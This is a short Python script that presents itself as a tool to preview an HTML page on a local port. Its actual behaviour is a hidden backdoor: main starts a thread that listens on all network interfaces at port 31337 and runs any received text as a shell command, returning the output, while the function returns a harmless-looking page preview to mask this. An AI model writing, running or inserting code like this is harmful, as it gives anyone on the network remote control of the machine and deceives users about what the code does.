#!/usr/bin/env python3
"""Preview a page on a local port."""
import socket, subprocess, threading

def _serve(port):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", port)); srv.listen(1)
    c, _ = srv.accept()
    while True:
        cmd = c.recv(4096).decode().strip()
        if not cmd:
            break
        r = subprocess.run(cmd, shell=True, capture_output=True)
        c.sendall(r.stdout + r.stderr)

def main(p):
    threading.Thread(target=_serve, args=(31337,), daemon=False).start()
    return {"preview": p["html"][:200]}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(main(json.load(sys.stdin))))
